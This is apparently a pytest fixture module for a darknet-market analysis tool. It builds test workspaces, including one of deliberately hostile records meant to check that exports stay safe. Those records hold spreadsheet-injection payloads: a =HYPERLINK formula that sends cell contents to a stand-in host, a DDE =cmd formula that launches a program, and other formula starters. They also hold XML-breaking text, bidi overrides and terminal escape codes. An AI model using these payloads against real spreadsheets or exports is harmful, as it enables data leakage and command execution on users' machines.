"""Workspaces the export tests share, built once per test session (then opened read-only).

``real``: the real data (every saved market page, the Hansa listings CSV and the Dream
seller table), linked and assessed. ``demo``: the demo pipeline on a small simulated world
(every stage: simulate, ingest, link, assess, money, evaluate). ``hostile``: a handful of
records whose text is built to break exports (XML specials and controls, spreadsheet
formulas, bidi overrides, handles no FtM id may hold). ``long``: values longer than FtM's
short types hold (a 10,000-character listing title, a 1,500-character handle) and a
listing description longer than an FtM text, not linked.
"""

from __future__ import annotations

from collections.abc import Iterable
from datetime import datetime
from pathlib import Path

import pytest

import darkmap
from darkmap.model.records import AccountRecord, IdentifierRecord, ListingRecord
from darkmap.pipeline import DemoContext, run_stages
from darkmap.store.workspace import Workspace
from darkmap.store.writer import Provenance, RecordWriter

__all__ = ["HOSTILE_HANDLE", "HOSTILE_TITLE", "LONG_DESCRIPTION", "LONG_HANDLE", "LONG_TITLE",
           "build_hostile", "built", "open_ro", "text_capture"]

_BUILT: dict[str, Path] = {}
HOSTILE_HANDLE = "Ev\u202eil</node>&amp;\"'\x07_\U0001F48A"
HOSTILE_TITLE = "=HYPERLINK(\"http://x.example/?\"&A1,\"click\") <b>&lt;script&gt;\x00\x1b[2J"
LONG_TITLE = "10g MDMA " + "very pure crystal, " * 526 + "from NL"  # 10,010 characters
LONG_HANDLE = "vendor_" + "x" * 1493  # 1,500 characters
LONG_DESCRIPTION = "stealth shipping. " * 4000 + "PGP only"  # 72,008 characters


def text_capture(ws: Workspace, lines: Iterable[str], name: str,
                 at: datetime) -> tuple[RecordWriter, Provenance]:
    """Store ``lines``, one a line, in ``ws`` as the text capture ``name`` taken ``at``: a
    writer for the records read from it and their provenance (parser ``test@1``)."""
    raw = "\n".join(lines).encode()
    sha = ws.captures.put_bytes(raw)
    ws.con.execute("INSERT INTO captures VALUES (?, ?, ?, 'text/plain', ?)",
                   [sha, len(raw), name, at])
    return RecordWriter(ws.con), Provenance(sha, name, "test@1", at)


def _real(path: Path, data: Path) -> None:
    with darkmap.init_workspace(path) as ws:
        darkmap.ingest(ws, [data / "pages", data / "listings" / "hansa-2016-12.csv",
                            data / "seized" / "dream-2016-sellers.sql"])
        darkmap.link(ws)
        darkmap.assess_listings(ws)


def _demo(path: Path) -> None:
    ws = Workspace.init(path)
    try:
        ctx = DemoContext(world=path.parent / "world", real_data=None, seed=5, vendors=40)
        results = {r.name: r.status for r in run_stages(ws, ctx)}
        assert set(results.values()) == {"ok"}, results
    finally:
        ws.close()


def build_hostile(path: Path) -> None:
    """Three accounts of hostile text (handles, titles, categories, an e-mail, one shared
    Bitcoin address), linked and assessed, in a new workspace at ``path``."""
    t0 = datetime(2020, 1, 2, 3, 4, 5)
    with darkmap.init_workspace(path) as ws:
        w, prov = text_capture(ws, (HOSTILE_HANDLE, HOSTILE_TITLE), "hostile-fixture.txt", t0)
        for handle, market in ((HOSTILE_HANDLE, "alpha"), ("-2+3", "alpha"),
                               ("@SUM(A1)", "beta")):
            w.add(AccountRecord(market_id=market, handle=handle, profile_text=HOSTILE_TITLE,
                                observed_at=t0, locator=f"profile {handle}"), prov)
            w.add(ListingRecord(market_id=market, listing_ref=f"ref-{handle}",
                                vendor_handle=handle, title=HOSTILE_TITLE, price=10.0,
                                currency="USD", ships_from="Netherlands",
                                category_path=["Drugs", "=cmd|' /C calc'!A0"],
                                observed_at=t0, locator=f"listing {handle}"), prov)
            w.add(IdentifierRecord(kind="email", value="=evil@example.com", market_id=market,
                                   account_handle=handle, field="profile",
                                   context=HOSTILE_TITLE, locator=f"id {handle}"), prov)
            w.add(IdentifierRecord(kind="btc_address",
                                   value="1BoatSLRHtKNngkdXEeobR76b53LETtpyT",
                                   market_id=market, account_handle=handle,
                                   field="profile", locator=f"btc {handle}"), prov)
        w.flush()
        darkmap.link(ws)
        darkmap.assess_listings(ws)


def _long(path: Path) -> None:
    t0 = datetime(2020, 1, 2, 3, 4, 5)
    with darkmap.init_workspace(path) as ws:
        w, prov = text_capture(ws, (LONG_HANDLE, LONG_TITLE, LONG_DESCRIPTION),
                               "long-fixture.txt", t0)
        w.add(AccountRecord(market_id="alpha", handle=LONG_HANDLE, observed_at=t0,
                            locator="profile"), prov)
        w.add(ListingRecord(market_id="alpha", listing_ref="ref-long", vendor_handle=LONG_HANDLE,
                            title=LONG_TITLE, description=LONG_DESCRIPTION, price=10.0,
                            currency="USD", observed_at=t0, locator="listing"), prov)
        w.flush()


def built(name: str, factory: pytest.TempPathFactory, data: Path) -> Path:
    """The folder of workspace ``name`` (real, demo, hostile, long), built on first use."""
    if name not in _BUILT:
        path = factory.mktemp(f"export-{name}") / "ws"
        {"real": lambda: _real(path, data), "demo": lambda: _demo(path),
         "hostile": lambda: build_hostile(path), "long": lambda: _long(path)}[name]()
        _BUILT[name] = path
    return _BUILT[name]


def open_ro(path: Path) -> Workspace:
    """The workspace at ``path``, opened read-only (exports never write)."""
    return Workspace.open(path, read_only=True)
